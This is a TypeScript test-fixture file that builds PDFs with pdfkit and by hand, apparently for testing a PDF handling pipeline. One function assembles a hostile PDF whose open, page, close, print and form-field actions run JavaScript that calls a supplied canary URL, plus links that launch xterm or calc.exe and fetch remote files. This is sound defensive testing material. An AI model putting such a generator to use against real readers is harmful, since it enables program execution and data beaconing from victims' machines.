import PDFDocument from 'pdfkit';

/** A PDF printed by pdfkit: one line of text a page. */
export function plainPdf(pages: number, textOf: (page: number) => string, userPassword?: string): Promise<Buffer> {
  const pdf = new PDFDocument({ size: 'A4', ...(userPassword === undefined ? {} : { userPassword }) });
  const chunks: Buffer[] = [];
  const done = new Promise<Buffer>((resolve, reject) => {
    pdf.on('data', (chunk: Buffer) => chunks.push(chunk));
    pdf.on('end', () => resolve(Buffer.concat(chunks)));
    pdf.on('error', reject);
  });
  for (let page = 1; page <= pages; page++) {
    if (page > 1) pdf.addPage();
    pdf.fontSize(24).text(textOf(page));
  }
  pdf.end();
  return done;
}

/** The header of a PDF and then noise: what a failed transfer leaves. */
export const garbagePdf = (): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    Buffer.from(Array.from({ length: 20_000 }, (_, i) => (i * 2_654_435_761) % 251)),
  ]);

/**
 * A file that tries everything a PDF can: scripts when it opens and when its page does, a form field that computes,
 * starting a program, fetching and sending to `canaryUrl`, links over the whole page.
 */
export function scriptedPdf(canaryUrl: string): Buffer {
  const js = (code: string): string => `<< /S /JavaScript /JS (${code}) >>`;
  const attack = js(
    `app.alert\\('pwned'\\); app.launchURL\\('${canaryUrl}/js', true\\); this.submitForm\\('${canaryUrl}/form'\\);`,
  );
  const text = 'BT /F1 24 Tf 60 760 Td (VAN BAN CO MA LENH) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${attack} /AA << /WC ${attack} /DP ${attack} >>
       /Names << /JavaScript << /Names [(start) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] /NeedAppearances true >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
       /AA << /O ${attack} >> /Annots [7 0 R 8 0 R 9 0 R 10 0 R] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    attack,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [60 600 300 640] /V (x) /AA << /C ${attack} /K ${attack} >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 300] /A << /S /URI /URI (${canaryUrl}/link) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 300 595 500] /A << /S /Launch /F (/usr/bin/xterm) /Win << /F (calc.exe) >> >> >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 500 595 600] /A << /S /GoToR /F << /FS /URL /F (${canaryUrl}/remote) >> /D [0 /Fit] >> >>`,
  ];
  let body = '%PDF-1.7\n';
  const places = objects.map((object, i) => {
    const at = body.length;
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  return Buffer.from(
    `${body}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}
